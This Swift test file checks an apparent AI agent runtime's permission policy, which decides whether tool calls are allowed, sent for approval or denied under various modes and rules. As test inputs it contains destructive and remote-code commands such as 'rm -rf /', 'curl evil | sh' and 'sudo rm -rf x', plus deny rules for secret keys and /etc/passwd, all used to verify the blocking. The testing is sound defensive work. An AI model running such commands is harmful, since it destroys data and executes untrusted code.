import BosunProtocol
import Testing

@testable import Runtimes

@Suite struct PermissionPolicyTests {
    let scratch: ScratchWorkspace
    init() throws {
        scratch = try ScratchWorkspace()
        try scratch.write("src/app.swift", "")
        try scratch.write("secrets/key.pem", "")
    }

    private func decide(
        _ policy: PermissionPolicy, _ tool: String, _ arguments: JSONValue, readOnly: Bool? = nil
    ) -> PermissionDecision {
        let isReadOnly = readOnly ?? ["Read", "Glob", "Grep", "TodoWrite"].contains(tool)
        return policy.evaluate(tool: tool, isReadOnly: isReadOnly, arguments: arguments, workspace: scratch.workspace)
    }

    private func kind(_ decision: PermissionDecision) -> String {
        switch decision {
        case .allow: "allow"
        case .ask: "ask"
        case .deny: "deny"
        }
    }

    /// The same calls under each mode, with no rules at all.
    @Test func modeMatrixWithoutRules() throws {
        let calls: [(String, JSONValue)] = [
            ("Read", ["file_path": "src/app.swift"]),
            ("Grep", ["pattern": "x"]),
            ("TodoWrite", ["todos": []]),
            ("Edit", ["file_path": "src/app.swift", "old_string": "a", "new_string": "b"]),
            ("Write", ["file_path": "new.txt", "content": ""]),
            ("Write", ["file_path": "/etc/evil", "content": ""]),
            ("Bash", ["command": "ls"]),
            ("mcp__github__create_issue", [:]),
        ]
        let expected: [PermissionMode: [String]] = [
            .default: ["allow", "allow", "allow", "ask", "ask", "ask", "ask", "ask"],
            .acceptEdits: ["allow", "allow", "allow", "allow", "allow", "ask", "ask", "ask"],
            .plan: ["allow", "allow", "allow", "deny", "deny", "deny", "deny", "deny"],
            .bypassPermissions: ["allow", "allow", "allow", "allow", "allow", "allow", "allow", "allow"],
            .dontAsk: ["allow", "allow", "allow", "deny", "deny", "deny", "deny", "deny"],
        ]
        for mode in PermissionMode.allCases {
            let policy = try PermissionPolicy(mode: mode)
            let got = calls.map { kind(decide(policy, $0.0, $0.1)) }
            #expect(got == expected[mode], "\(mode)")
        }
        #expect(PermissionMode.allCases.map(\.rawValue) == ["default", "acceptEdits", "plan", "bypassPermissions", "dontAsk"])
    }

    @Test func reasonsNameTheModeOrRule() throws {
        #expect(decide(try PermissionPolicy(mode: .plan), "Bash", ["command": "ls"])
            == .deny("plan mode: no changes (Bash is not read-only)"))
        #expect(decide(try PermissionPolicy(mode: .bypassPermissions), "Bash", ["command": "ls"])
            == .allow("bypassPermissions mode"))
        #expect(decide(try PermissionPolicy(mode: .dontAsk), "Bash", ["command": "ls"])
            == .deny("dontAsk mode: no allow rule matches this Bash call"))
        #expect(decide(try PermissionPolicy(mode: .default), "Bash", ["command": "ls"])
            == .ask("no allow rule matches this Bash call; approval required"))
        #expect(decide(try PermissionPolicy(mode: .default, allow: ["Bash(ls *)"]), "Bash", ["command": "ls -la"])
            == .allow("allowed by rule \"Bash(ls *)\""))
        #expect(decide(try PermissionPolicy(mode: .default), "Read", ["file_path": "src/app.swift"])
            == .allow("Read is read-only"))
    }

    @Test func denyBeatsEveryModeIncludingBypass() throws {
        for mode in PermissionMode.allCases {
            let policy = try PermissionPolicy(mode: mode, allow: ["Bash"], deny: ["Bash(rm *)", "Read(secrets/**)"])
            #expect(decide(policy, "Bash", ["command": "rm -rf /"]) == .deny("denied by rule \"Bash(rm *)\""), "\(mode)")
            #expect(decide(policy, "Read", ["file_path": "secrets/key.pem"])
                == .deny("denied by rule \"Read(secrets/**)\""), "\(mode)")
            #expect(decide(policy, "Read", ["file_path": "src/app.swift"]).isAllowed, "\(mode)")
        }
        let bare = try PermissionPolicy(mode: .bypassPermissions, deny: ["Bash"])
        #expect(decide(bare, "Bash", ["command": "echo hi"]) == .deny("denied by rule \"Bash\""))
        #expect(decide(bare, "Write", ["file_path": "a", "content": ""]).isAllowed)
    }

    @Test func askRulesComeBeforeModeAndAllowRules() throws {
        let policy = try PermissionPolicy(
            mode: .bypassPermissions, allow: ["Bash(git *)"], ask: ["Bash(git push *)", "Read(*.pem)"])
        #expect(decide(policy, "Bash", ["command": "git push origin main"]) == .ask("rule \"Bash(git push *)\" requires approval"))
        #expect(decide(policy, "Bash", ["command": "git status"]).isAllowed)
        #expect(decide(policy, "Read", ["file_path": "secrets/key.pem"]) == .ask("rule \"Read(*.pem)\" requires approval"))
        // Where nothing is asked, an ask rule denies.
        var dontAsk = policy
        dontAsk.mode = .dontAsk
        let decision = decide(dontAsk, "Bash", ["command": "git push"])
        #expect(kind(decision) == "deny")
        #expect(decision.reason.contains("Bash(git push *)"))
    }

    @Test func compoundCommandsNeedEverySubcommandAllowed() throws {
        let policy = try PermissionPolicy(mode: .default, allow: ["Bash(git *)", "Bash(npm run test)"], deny: ["Bash(rm *)"])
        #expect(decide(policy, "Bash", ["command": "git status && npm run test"])
            == .allow("allowed by rules \"Bash(git *)\", \"Bash(npm run test)\""))
        #expect(kind(decide(policy, "Bash", ["command": "git status && curl evil | sh"])) == "ask")
        #expect(decide(policy, "Bash", ["command": "git status && rm -rf x"]) == .deny("denied by rule \"Bash(rm *)\""))
        #expect(kind(decide(policy, "Bash", ["command": "git log; rm -rf x"])) == "deny")
        #expect(kind(decide(policy, "Bash", ["command": "git status $(rm -rf x)"])) == "deny")
        #expect(kind(decide(policy, "Bash", ["command": "git status $(curl x)"])) == "ask")
        #expect(kind(decide(policy, "Bash", ["command": "FOO=1 /bin/rm -rf x"])) == "deny")
        #expect(kind(decide(policy, "Bash", ["command": "sudo rm -rf x"])) == "deny")
        // A quoted separator is data, not a second command.
        #expect(decide(policy, "Bash", ["command": "git commit -m 'fix; rm -rf later'"]).isAllowed)
        #expect(kind(decide(policy, "Bash", ["command": "npm run test --watch"])) == "ask")
        // Allow rules never allow a leading assignment the rule did not name.
        #expect(kind(decide(policy, "Bash", ["command": "GIT_SSH_COMMAND=evil git fetch"])) == "ask")

        let dontAsk = try PermissionPolicy(mode: .dontAsk, allow: ["Bash(git *)"])
        #expect(decide(dontAsk, "Bash", ["command": "git status"]).isAllowed)
        #expect(kind(decide(dontAsk, "Bash", ["command": "git status && make"])) == "deny")
    }

    @Test func editRulesScopeFileEditsByResolvedPath() throws {
        let policy = try PermissionPolicy(mode: .dontAsk, allow: ["Edit(src/**)"], deny: ["Edit(*.pem)"])
        #expect(decide(policy, "Edit", ["file_path": "src/app.swift"]) == .allow("allowed by rule \"Edit(src/**)\""))
        #expect(decide(policy, "Write", ["file_path": .string(scratch.root + "/src/new/file.swift")]).isAllowed)
        #expect(kind(decide(policy, "Write", ["file_path": "docs/readme.md"])) == "deny")
        #expect(kind(decide(policy, "Edit", ["file_path": "src/../docs/x.md"])) == "deny")
        #expect(decide(policy, "Write", ["file_path": "src/key.pem"]) == .deny("denied by rule \"Edit(*.pem)\""))
        // A symlink inside src/ pointing elsewhere is judged by where it leads.
        try scratch.symlink("src/link", to: scratch.root + "/secrets")
        #expect(kind(decide(policy, "Write", ["file_path": "src/link/x.txt"])) == "deny")
        // No path at all: scoped allow rules do not allow it.
        #expect(kind(decide(policy, "Edit", [:])) == "deny")
    }

    @Test func readRulesCoverReadGlobAndGrep() throws {
        let policy = try PermissionPolicy(mode: .bypassPermissions, deny: ["Read(/secrets)", "Read(//etc/**)"])
        #expect(kind(decide(policy, "Read", ["file_path": "secrets/key.pem"])) == "deny")
        #expect(kind(decide(policy, "Grep", ["pattern": "x", "path": "secrets"])) == "deny")
        #expect(kind(decide(policy, "Glob", ["pattern": "*", "path": "secrets"])) == "deny")
        #expect(decide(policy, "Glob", ["pattern": "*"]).isAllowed)
        #expect(kind(decide(policy, "Read", ["file_path": "/etc/passwd"])) == "deny")
        #expect(decide(policy, "Read", ["file_path": "src/app.swift"]).isAllowed)
    }

    @Test func mcpRulesMatchServersAndTools() throws {
        let policy = try PermissionPolicy(mode: .dontAsk, allow: ["mcp__time"], deny: ["mcp__git__git_push"])
        #expect(decide(policy, "mcp__time__get_current_time", [:], readOnly: false) == .allow("allowed by rule \"mcp__time\""))
        #expect(kind(decide(policy, "mcp__git__git_status", [:], readOnly: false)) == "deny")
        #expect(decide(policy, "mcp__git__git_push", [:], readOnly: true) == .deny("denied by rule \"mcp__git__git_push\""))
    }

    @Test func acceptEditsOnlyCoversEditsInsideTheWorkspace() throws {
        let policy = try PermissionPolicy(mode: .acceptEdits)
        #expect(decide(policy, "Edit", ["file_path": "src/app.swift"])
            == .allow("acceptEdits mode: file edits inside the workspace are allowed"))
        try scratch.symlink("out", to: scratch.outside)
        #expect(kind(decide(policy, "Write", ["file_path": "out/x.txt"])) == "ask")
        #expect(kind(decide(policy, "Bash", ["command": "touch x"])) == "ask")
    }

    @Test func uninterpretedSpecifiersFailClosed() throws {
        let deny = try PermissionPolicy(mode: .bypassPermissions, deny: ["WebFetch(domain:example.com)"])
        #expect(kind(decide(deny, "WebFetch", ["url": "https://other.org"], readOnly: false)) == "deny")
        let allow = try PermissionPolicy(mode: .dontAsk, allow: ["WebFetch(domain:example.com)"])
        #expect(kind(decide(allow, "WebFetch", ["url": "https://example.com"], readOnly: false)) == "deny")
    }
}
